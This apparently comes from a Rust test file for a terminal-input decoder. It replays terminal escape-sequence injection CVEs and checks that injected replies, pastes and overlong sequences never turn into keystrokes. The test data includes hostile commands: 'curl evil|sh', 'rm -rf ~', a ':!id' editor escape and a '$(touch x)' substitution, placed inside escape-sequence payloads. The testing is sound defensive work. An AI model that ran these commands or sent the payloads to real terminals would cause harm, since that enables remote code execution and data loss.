//! Known attacks through terminal input, each with what the decoder makes of it.
//!
//! Most are faults of terminals: bytes from outside make the terminal answer with text of the
//! attacker's choice, and what reads the terminal takes the answer for typing. A decoder cannot
//! mend the terminal; it can keep an answer in the form of a control string from becoming keys,
//! whatever the text in it. Where the form itself is that of typing, the test says so.

use ttyring::decode::{Decoder, LONGEST_SEQUENCE};
use ttyring::event::{Event, Key, KeyCode, Modifiers, Paste, Reply};
use ttyring::sanitize::{contains_controls, sanitize};

/// Decodes `bytes` in chunks of `size`, as owned events.
fn decode(bytes: &[u8], size: usize) -> Vec<Event<'static>> {
    let mut decoder = Decoder::new();
    let mut events = Vec::new();
    for chunk in bytes.chunks(size) {
        events.extend(decoder.events(chunk).map(Event::into_owned));
    }
    while let Some(event) = decoder.finish() {
        events.push(event.into_owned());
    }
    events
}

fn keys(events: &[Event<'_>]) -> usize {
    events
        .iter()
        .filter(|event| matches!(event, Event::Key(_)))
        .count()
}

/// An answer with the attacker's text in it is one event that is no key, however it is cut, and
/// the key typed after it is the next event.
#[track_caller]
fn assert_is_one_answer(answer: &[u8]) {
    let typed = [answer, b"q"].concat();
    for size in 1..=typed.len() {
        let events = decode(&typed, size);
        assert_eq!(events.len(), 2, "in chunks of {size}: {events:?}");
        assert!(
            matches!(events[0], Event::Reply(_) | Event::Unknown(_)),
            "{events:?}"
        );
        assert!(events[1] == Key::char('q'), "{events:?}");
    }
}

/// What an attacker would have typed: lines for a shell, and what its editor acts upon.
const COMMAND: &[u8] = b"\r\ncurl evil|sh\r\n\x03\x04 :!id\n";

fn around(before: &[u8], after: &[u8]) -> Vec<u8> {
    [before, COMMAND, after].concat()
}

#[test]
fn cve_2003_0063_title_report() {
    assert_is_one_answer(&around(b"\x1b]l", b"\x1b\\"));
    assert_is_one_answer(&around(b"\x1b]L", b"\x1b\\"));
}

#[test]
fn cve_2008_2383_setting_report() {
    assert_is_one_answer(&around(b"\x1bP0$r", b"\x1b\\"));
    assert_is_one_answer(&around(b"\x1bP1$r", b"\x1b\\"));
}

#[test]
fn cve_2021_33477_answer_in_the_form_of_typing() {
    // `ESC G Q` was answered with `ESC G 0 LF`, which is what Alt+G, 0 and Ctrl+J send. No reader
    // can tell; what it must not do is swallow or join them.
    let events = decode(b"\x1bG0\n", 1);
    let alt_g = Key::char('G').with(Modifiers::ALT);
    assert!(events[0] == alt_g || events[0] == alt_g.with(Modifiers::ALT | Modifiers::SHIFT));
    assert!(events[1] == Key::char('0'), "{events:?}");
    assert_eq!(keys(&events), events.len(), "{events:?}");
}

#[test]
fn cve_2022_45063_font_report() {
    assert_is_one_answer(&around(b"\x1b]50;", b"\x1b\\"));
    // A BEL in the font's name ends the string: what follows is typing, to us and to everybody.
    let events = decode(b"\x1b]50;i$(touch x)\x07\n\x07", 1);
    assert!(
        matches!(&events[0], Event::Reply(Reply::Font(name)) if **name == *b"i$(touch x)"),
        "{events:?}"
    );
    assert_eq!(keys(&events), 2, "{events:?}");
}

#[test]
fn cve_2022_45872_setting_report_with_text() {
    let answer = around(b"\x1bP1$r", b"\x1b\\");
    assert_is_one_answer(&answer);
    // The text arrives as bytes of a reply, which nothing acts upon.
    let events = decode(&answer, answer.len());
    let Event::Reply(Reply::StatusString { value, .. }) = &events[0] else {
        panic!("{events:?}");
    };
    assert_eq!(&**value, COMMAND);
}

#[test]
fn cve_2022_47583_and_2023_39726_unescaped_answers() {
    assert_is_one_answer(&around(b"\x1b]7;file://", b"\x07"));
    assert_is_one_answer(&around(b"\x1b]7771;!", b"\x1b\\"));
    assert_is_one_answer(&around(b"\x1b_G", b"\x1b\\"));
    assert_is_one_answer(&around(b"\x1b^", b"\x1b\\"));
}

#[test]
fn cve_2024_38395_and_38396_title_reports() {
    assert_is_one_answer(&around(b"\x1b]l", b"\x1b\\"));
    assert_is_one_answer(&around(b"\x1b]2;", b"\x07"));
    assert_is_one_answer(&around(b"\x1bP1000p%", b"\x1b\\"));
}

#[test]
fn cve_2026_26982_control_characters_in_a_paste() {
    let pasted = b"echo safe\x03\x15rm -rf ~\r\x1bOM";
    let bytes = [b"\x1b[200~".as_slice(), pasted, b"\x1b[201~q"].concat();
    for size in 1..=bytes.len() {
        let events = decode(&bytes, size);
        assert_eq!(
            keys(&events),
            1,
            "a pasted control became a key: {events:?}"
        );
        let text: Vec<u8> = events
            .iter()
            .filter_map(|event| match event {
                Event::Paste(paste) => Some(&*paste.bytes),
                _ => None,
            })
            .flatten()
            .copied()
            .collect();
        assert_eq!(text, pasted);
    }
    assert!(Paste::whole(pasted.as_slice()).contains_controls());
    let clean = sanitize(pasted);
    assert_eq!(clean, "echo saferm -rf ~\r");
    assert!(!contains_controls(clean.as_bytes()));
}

#[test]
fn cve_2020_27347_parameters_without_end() {
    // tmux kept sub-parameters in an array of its stack.
    for separator in [":", ";", ":;", "::::"] {
        for (start, end) in [
            ("\x1b[38:2", "m"),
            ("\x1b[<", "M"),
            ("\x1b[97", "u"),
            ("\x1b[?", "c"),
        ] {
            let bytes = format!("{start}{}{end}q", format!("{separator}1").repeat(100_000));
            let events = decode(bytes.as_bytes(), 4096);
            assert!(events.last().is_some_and(|event| *event == Key::char('q')));
            for event in &events {
                if let Event::Unknown(unknown) = event {
                    assert!(unknown.bytes.len() <= LONGEST_SEQUENCE);
                }
            }
            assert_eq!(
                keys(&events[..events.len() - 1]).min(1),
                keys(&events[..events.len() - 1])
            );
        }
    }
}

#[test]
fn cve_2021_27135_combining_characters_without_end() {
    // xterm wrote a character with all its combining ones into a buffer of fixed size.
    let typed = format!("a{}q", "\u{0301}".repeat(100_000));
    assert_eq!(keys(&decode(typed.as_bytes(), 4096)), 100_002);
    let kitty = format!("\x1b[97;;97{}uq", ":769".repeat(20_000));
    let events = decode(kitty.as_bytes(), 4096);
    assert!(events.last().is_some_and(|event| *event == Key::char('q')));
    for event in &events {
        if let Event::Key(key) = event {
            assert!(key.text().len() <= 64, "{key:?}");
        }
    }
    assert!(matches!(
        events[0],
        Event::Unknown(_)
            | Event::Key(Key {
                code: KeyCode::Char('a'),
                ..
            })
    ));
}
